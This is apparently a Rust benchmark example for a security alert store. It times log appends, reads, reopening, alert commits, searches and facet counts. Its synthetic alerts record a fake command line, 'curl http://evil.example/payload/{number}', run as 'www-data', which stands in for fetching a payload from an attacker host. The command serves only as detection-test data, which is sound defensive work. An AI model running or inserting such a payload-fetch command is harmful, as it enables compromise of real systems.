//! What the store costs: `cargo run --release -p neph-store --example store_speed -- FOLDER FILE`. FILE is NDJSON, FOLDER is
//! made and filled. Processor time is of the whole process, so of all threads together.

#![expect(clippy::print_stdout, reason = "a measuring program prints")]

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant as Moment};

use neph_event::Instant;
use neph_store::{
    AlertChange, AlertQuery, AlertSort, Batch, Commit, Facet, Limits, Records, Store, StoreError,
    StoreOptions, StoredAlert,
};
use rustix::time::{ClockId, clock_gettime};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let mut arguments = std::env::args_os().skip(1).map(PathBuf::from);
    let (Some(folder), Some(file)) = (arguments.next(), arguments.next()) else {
        return Err("give a folder and a file".into());
    };
    let text = std::fs::read(&file)?;
    let limits = Limits {
        min_free_bytes: 0,
        ..Limits::default()
    };
    let (store, _) = Store::open(&folder, &StoreOptions { limits })?;
    for (threads, together) in [(1, 1000), (2, 1000), (2, 100)] {
        append(&store, &text, threads, together)?;
    }
    read(&store)?;
    single(&store)?;
    drop(store);
    reopen(&folder)?;
    let (store, _) = Store::open(&folder, &StoreOptions::default())?;
    alerts(&store)?;
    Ok(())
}

fn processor() -> Duration {
    let time = clock_gettime(ClockId::ProcessCPUTime);
    let seconds = u64::try_from(time.tv_sec).unwrap_or(0);
    Duration::new(seconds, u32::try_from(time.tv_nsec).unwrap_or(0))
}

/// Runs and says how many a second, by the clock and by processor time.
fn measured<T>(what: &str, run: impl FnOnce() -> Result<(u64, T), StoreError>) -> Result<T, StoreError> {
    let (wall, busy) = (Moment::now(), processor());
    let (count, value) = run()?;
    let (wall, busy) = (wall.elapsed(), processor() - busy);
    let rate = |time: Duration| count as f64 / time.as_secs_f64();
    println!(
        "{what}: {count} in {:.2} s, {:.0}/s by the clock, {:.0}/s of a core",
        wall.as_secs_f64(),
        rate(wall),
        rate(busy)
    );
    Ok(value)
}

fn append(store: &Store, text: &[u8], threads: usize, together: usize) -> Result<(), StoreError> {
    let mut batches = vec![Records::default()];
    let mut bytes = 0_usize;
    for line in text.split(|byte| *byte == b'\n').filter(|line| !line.is_empty()) {
        bytes += line.len();
        match batches.last_mut() {
            Some(last) if last.len() < together => {
                last.push(line);
            }
            _ => {
                let mut records = Records::default();
                records.push(line);
                batches.push(records);
            }
        }
    }
    let count: u64 = batches.iter().map(|records| records.len() as u64).sum();
    let stored = store.log.stored_bytes();
    let what = format!("append, {threads} threads, {together} records each");
    measured(&what, || {
        std::thread::scope(|scope| {
            let parts: Vec<_> = batches
                .chunks(batches.len().div_ceil(threads))
                .map(|part| {
                    scope.spawn(move || {
                        for records in part {
                            let batch = Batch {
                                stream: "bulk".into(),
                                received: Instant::from_millis(0),
                                records: records.clone(),
                            };
                            store.log.append(batch)?;
                        }
                        Ok::<(), StoreError>(())
                    })
                })
                .collect();
            for part in parts {
                if let Ok(result) = part.join() {
                    result?;
                }
            }
            Ok((count, ()))
        })
    })?;
    let stored = store.log.stored_bytes() - stored;
    println!(
        "  {} bytes a record, {:.1} times smaller on disk",
        bytes as u64 / count.max(1),
        bytes as f64 / stored as f64
    );
    Ok(())
}

fn read(store: &Store) -> Result<(), StoreError> {
    measured("read everything", || {
        let mut count = 0;
        for block in store.log.blocks(0) {
            count += block?.records.len() as u64;
        }
        Ok((count, ()))
    })
}

/// One record a time, from many threads: how many share a sync.
fn single(store: &Store) -> Result<(), StoreError> {
    for threads in [1, 64] {
        measured(
            &format!("append one record of 300 bytes at a time, {threads} threads"),
            || {
                let until = Moment::now() + Duration::from_secs(3);
                let count = std::thread::scope(|scope| {
                    let all: Vec<_> = (0..threads)
                        .map(|_| {
                            scope.spawn(|| {
                                let mut count = 0_u64;
                                while Moment::now() < until {
                                    let mut records = Records::default();
                                    records.push(&[b'x'; 300]);
                                    let batch = Batch {
                                        stream: "syslog".into(),
                                        received: Instant::from_millis(0),
                                        records,
                                    };
                                    count += u64::from(store.log.append(batch).is_ok());
                                }
                                count
                            })
                        })
                        .collect();
                    all.into_iter().filter_map(|one| one.join().ok()).sum()
                });
                Ok((count, ()))
            },
        )?;
    }
    Ok(())
}

fn reopen(folder: &Path) -> Result<(), StoreError> {
    let before = Moment::now();
    let (store, _) = Store::open(folder, &StoreOptions::default())?;
    println!(
        "open a log of {} MiB: {:?}",
        store.log.stored_bytes() >> 20,
        before.elapsed()
    );
    Ok(())
}

fn alerts(store: &Store) -> Result<(), StoreError> {
    const ALERTS: usize = 100_000;
    measured("commit alerts, 100 a transaction", || {
        for first in (0..ALERTS).step_by(100) {
            let alerts = (first..first + 100).map(|number| Ok(AlertChange::Raised(alert(number)?)));
            store.db.commit(Commit {
                now: Instant::from_millis(0),
                alerts: alerts.collect::<Result<_, StoreError>>()?,
                outputs: vec![Arc::from("file")],
                ..Commit::default()
            })?;
        }
        Ok((ALERTS as u64, ()))
    })?;
    let everything = AlertQuery::default();
    let of_host = AlertQuery {
        entities: vec![("host.name".to_owned(), "host-77".to_owned())],
        ..AlertQuery::default()
    };
    let text = AlertQuery {
        text: "payload host-4242".to_owned(),
        ..AlertQuery::default()
    };
    let many = AlertQuery {
        text: "curl".to_owned(),
        severities: vec![neph_store::Severity::High],
        ..AlertQuery::default()
    };
    for (what, query) in [
        ("everything", &everything),
        ("one host", &of_host),
        ("rare words", &text),
        ("frequent words", &many),
    ] {
        for sort in [
            AlertSort::Time,
            AlertSort::Severity,
            AlertSort::Risk,
            AlertSort::Updated,
        ] {
            let before = Moment::now();
            let page = store.db.search(query, sort, false, None, 50)?;
            println!(
                "first page of {what} by {sort:?}: {:?}, {} alerts",
                before.elapsed(),
                page.alerts.len()
            );
        }
    }
    for facet in [
        Facet::State,
        Facet::Rule,
        Facet::Technique,
        Facet::Entity("host.name".to_owned()),
        Facet::Day,
    ] {
        let before = Moment::now();
        let counts = store.db.count_by(&everything, &facet, 20)?;
        println!(
            "count all by {facet:?}: {:?}, {} values",
            before.elapsed(),
            counts.len()
        );
    }
    Ok(())
}

fn alert(number: usize) -> Result<StoredAlert, StoreError> {
    let severities = ["low", "medium", "high", "critical"];
    let document = serde_json::json!({
        "@timestamp": Instant::from_millis(1_760_000_000_000 + number as i64 * 7919).to_string(),
        "message": format!("On `host-{}`: `www-data` started `curl`", number % 5000),
        "event": {"id": format!("{number:032x}"), "risk_score": number % 100},
        "rule": {"id": format!("rule-{}", number % 300), "name": format!("Rule {}", number % 300)},
        "threat": {"tactic": {"name": ["Execution"]}, "technique": {"id": [format!("T1{:03}", number % 40)]}},
        "tags": ["Domain: Cloud"],
        "host": {"name": format!("host-{}", number % 5000)},
        "user": {"name": "www-data"},
        "process": {"name": "curl", "command_line": format!("curl http://evil.example/payload/{number}")},
        "kibana.alert.severity": severities.get(number % 4),
    });
    StoredAlert::from_document(document.to_string().into_bytes())
}
